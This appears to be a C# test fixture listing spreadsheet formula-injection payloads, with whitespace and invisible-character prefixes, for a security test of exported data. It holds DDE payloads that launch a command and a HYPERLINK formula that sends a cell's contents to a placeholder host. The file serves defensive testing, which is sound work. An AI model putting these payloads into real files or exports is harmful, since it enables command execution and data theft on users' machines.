namespace DpsPortal.HttpApi.Host.Tests.Spend;

/// <summary>Text that a spreadsheet program could take for a formula (security T15).</summary>
internal static class Payloads
{
    private static readonly string[] Bodies =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org?x=\"&A1,\"Open\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://example.org\")", "＝1+1",
    ];

    private static readonly string[] Leads = ["", " ", "   ", "\t", "\r", "\n", "\u00A0", "\u200B"];

    public static IReadOnlyList<string> All { get; } =
        [.. Leads.SelectMany(lead => Bodies.Select(body => lead + body))];
}
